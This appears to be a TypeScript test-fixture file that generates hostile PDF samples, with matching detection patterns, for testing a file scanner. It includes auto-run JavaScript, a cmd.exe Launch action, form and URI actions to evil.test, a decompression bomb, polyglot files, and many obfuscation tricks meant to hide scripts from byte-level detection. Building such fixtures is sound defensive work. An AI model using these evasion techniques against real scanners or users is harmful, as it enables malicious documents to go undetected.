import { deflateSync } from 'node:zlib'
import { makePdf, makeZip, packedObjects } from '../documents.factory.ts'
import {
  type HostileFile,
  type HostileKind,
  type Mark,
  eicar,
  eicarMark,
  exe,
  inFormat,
  script,
} from './hostile-file.factory.ts'

/** One of the two names of a script's action. */
const javaScript = /\/(JavaScript|JS)[\s/(<]/

function named(name: string): RegExp {
  return new RegExp(String.raw`/${name}[\s/<>(]`)
}

const action = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'

export async function hostilePdfs(): Promise<HostileFile[]> {
  const pdf = makePdf()
  const zip = await makeZip({ 'a.txt': 'x' })
  const text = pdf.toString('latin1')
  const packed = (inner: string, filter?: string) => packedPdf(packedObjects(inner, filter))
  const uncounted = Buffer.from(
    packedObjects(`9 0 ${action}`).toString('latin1').replace('/N 1 ', ''),
    'latin1',
  )
  const all: HostileKind[] = [
    ['script on opening', makePdf({ catalog: `/OpenAction ${action}` }), javaScript],
    ['script by reference', makePdf({ catalog: '/OpenAction 5 0 R', objects: [action] }), javaScript],
    [
      'script among the names',
      makePdf({ catalog: `/Names << /JavaScript << /Names [(a) ${action}] >> >>` }),
      javaScript,
    ],
    [
      'script with a name in hex',
      makePdf({ objects: ['<< /S /J#61vaScript /#4AS (app.alert\\(1\\)) >>'] }),
      /\/J#61vaScript[\s/(]|\/#4AS[\s/(]/,
    ],
    ['script in packed objects', ...packed(`9 0 ${action}`)],
    ['script in objects in an object stream that is not packed', ...packed(`9 0 ${action}`, '')],
    ['objects packed in another way', ...packed(`9 0 ${action}`, '/Filter /ASCIIHexDecode')],
    [
      'script in packed objects that do not say how many',
      ...packedPdf(uncounted, /5 0 obj\s<<[^]*\/ObjStm\s[^]*>>\s$/),
    ],
    [
      'script in an object inside a stream',
      makePdf({ content: Buffer.from(`9 0 obj\n${action}\nendobj\n`) }),
      /9 0 obj\n<< \/S \/JavaScript/,
    ],
    [
      'script in an object inside a string',
      makePdf({ objects: [`(9 0 obj << /S /J#61vaScript >> endobj)`] }),
      /9 0 obj << \/S \/J#61vaScript/,
    ],
    [
      'script in an object inside a comment',
      makePdf({ objects: [`<< >> % 9 0 obj << /S /J#61vaScript >>`] }),
      /9 0 obj << \/S \/J#61vaScript/,
    ],
    ['starts a program', makePdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }), named('Launch')],
    [
      'holds another file',
      makePdf({ objects: ['<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream'] }),
      named('EmbeddedFile'),
    ],
    ['holds a film', makePdf({ objects: ['<< /Subtype /RichMedia >>'] }), named('RichMedia')],
    ['a form of XML', makePdf({ catalog: '/AcroForm << /XFA 5 0 R >>', objects: ['<< >>'] }), named('XFA')],
    [
      'a form that sends itself',
      makePdf({ objects: ['<< /S /SubmitForm /F (https://evil.test) >>'] }),
      named('SubmitForm'),
    ],
    [
      'opens an address',
      makePdf({ catalog: '/OpenAction << /S /URI /URI (https://evil.test) >>' }),
      /\/OpenAction << \/S \/URI \/URI \(/,
    ],
    [
      'encrypted',
      makePdf({ trailer: '/Encrypt 5 0 R', objects: ['<< /Filter /Standard /V 2 >>'] }),
      /\/Encrypt 5 0 R/,
    ],
    ['packed objects that unpack to 40 MB', packedBomb()],
    ['then a zip', Buffer.concat([pdf, zip])],
    ['then html', Buffer.concat([pdf, Buffer.from(`<html>${script}`)])],
    ['then a program', Buffer.concat([pdf, exe])],
    ['html before it', Buffer.concat([Buffer.from(`<html>${script}`), pdf])],
    ['a zip before it', Buffer.concat([zip, pdf])],
    ['html in its head', Buffer.from(text.replace('\n', `\n% <html>${script}\n`), 'latin1')],
    ['html in its content', makePdf({ content: Buffer.from(`<html>${script}</html>`) }), /<(html|script)>/],
    ['the test virus in its content', makePdf({ content: Buffer.from(eicar) }), eicarMark],
    ['two of them', Buffer.concat([pdf, pdf]), /%PDF-[^]*%PDF-/],
    ['cut in half', pdf.subarray(0, pdf.length / 2)],
    ['without its end', Buffer.from(text.replace('%%EOF\n', ''), 'latin1')],
    ['without its table', Buffer.from(text.replace(/startxref\n\d+/, 'startxref\n5'), 'latin1')],
    ['without pages', Buffer.from(text.replace('/Kids', '/Nope'), 'latin1')],
    ['a head only', Buffer.from('%PDF-1.7\n')],
    ['a head and html', Buffer.from(`%PDF-1.7\n<html>${script}</html>\n%%EOF`)],
  ]
  return inFormat('pdf', [...all, ...pdfsInDisguise()])
}

/** Scripts that a reader (tried with pdf.js) finds and runs, though the bytes do not show them at once. */
function pdfsInDisguise(): HostileKind[] {
  const script = String.raw`<< /S /J#61vaScript /J#53 (app.alert\(1\)) >>`
  const packed = (dictionary: string, body = deflateSync(`9 0 ${script}`)) =>
    packedPdf(objectStream(dictionary, body))
  const hidden = (text: string): [Buffer, Mark] => {
    const content = Buffer.from(text)
    return [makePdf({ catalog: '/OpenAction 9 0 R', content }), (bytes) => bytes.includes(content)]
  }
  const hex = Buffer.from(`${Buffer.from(`9 0 ${script}`).toString('hex')}>`)
  const cut = Buffer.from(`9 0 << /A (endstream endobj %) ${script.slice(2)}`)
  const once = '/Filter /FlateDecode'
  const all: HostileKind[] = [
    ['behind a word among the brackets', ...packed(`${once} /X xobj`)],
    ['behind a word in a list', ...packed(`${once} /X [ >> endobj ]`)],
    ['packed, then written in hex', ...packed('/Filter [/FlateDecode /AHx]', deflateSync(hex))],
    ['packed twice', ...packed('/Filter [/Fl /Fl]', deflateSync(deflateSync(`9 0 ${script}`)))],
    ['packed in a way told elsewhere', ...packed('/Filter 6 0 R /Y /FlateDecode', deflateSync(hex))],
    ['packed with parameters told elsewhere', ...packed(`${once} /DecodeParms 6 0 R`)],
    ['behind an end in the middle', ...packed('', cut)],
    ['behind an end in what is packed', ...packed(once, deflateSync(cut, { level: 0 }))],
    ['in a string in which an object begins', ...packed(once, deflateSync(`9 1 (${script} )`))],
    [
      'between two words that are values',
      makePdf({ catalog: `/X stream /OpenAction ${script} /Y endstream` }),
      /\/OpenAction << \/S \/J#61vaScript/,
    ],
    ['in an object behind a comment', ...hidden(`BT ET\n9 0%a\nobj${script}`)],
    ['in an object without a blank', ...hidden(`BT ET\n9 0obj${script}`)],
    ['in an object behind many blanks', ...hidden(`BT ET\n9 0${' '.repeat(40)}obj${script}`)],
    ['in an object before many blanks', ...hidden(`BT ET\n9 0.0obj${' '.repeat(40)}${script}`)],
    [
      'an address on opening, packed',
      ...packed(once, deflateSync('9 0 << /S /URI /URI (https://evil.test) >>')),
    ],
    [
      'another file on opening',
      makePdf({ catalog: '/OpenAction << /S /GoToR /F (//evil.test/a) >>' }),
      /\/OpenAction << \/S \/GoToR \/F/,
    ],
    [
      'an address on closing',
      makePdf({ catalog: '/AA << /WC << /S /URI /URI (https://evil.test) >> >>' }),
      /\/AA << \/WC << \/S \/URI \/URI \(/,
    ],
  ]
  const versions = '7 0 obj '.repeat(250_000)
  all.push([
    'behind 250,000 versions',
    makePdf({ catalog: '/OpenAction 7 0 R', objects: [versions] }),
    /\/OpenAction 7 0 R/,
  ])
  return all.map(([what, ...kind]) => [`script ${what}`, ...kind])
}

/** Readers find its objects by the two numbers of its dictionary, and need all the bytes of the stream. */
function packedPdf(object: Buffer, sign = /5 0 obj\s<<[^]*\/N\s[^]*\/First\s[^]*>>\s$/): [Buffer, Mark] {
  const pdf = makePdf({ catalog: '/OpenAction 9 0 R', objects: [object, '[/FlateDecode /AHx]'] })
  const stream = object.subarray(object.indexOf('stream\n'))
  const isHostile = (bytes: Buffer): boolean => {
    const at = bytes.indexOf(stream)
    return (
      at >= 0 &&
      bytes.includes('/OpenAction 9 0 R') &&
      sign.test(bytes.toString('latin1', Math.max(0, at - 160), at))
    )
  }
  return [pdf, isHostile]
}

function objectStream(more: string, body: Buffer): Buffer {
  const dictionary = `<< /Type /ObjStm /N 1 /First 4 /Length ${body.length} ${more} >>\nstream\n`
  return Buffer.concat([Buffer.from(dictionary), body, Buffer.from('\nendstream')])
}

function packedBomb(): Buffer {
  const bomb = deflateSync(Buffer.alloc(40_000_000))
  const dictionary = `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`
  return makePdf({ objects: [Buffer.concat([Buffer.from(dictionary), bomb, Buffer.from('\nendstream')])] })
}
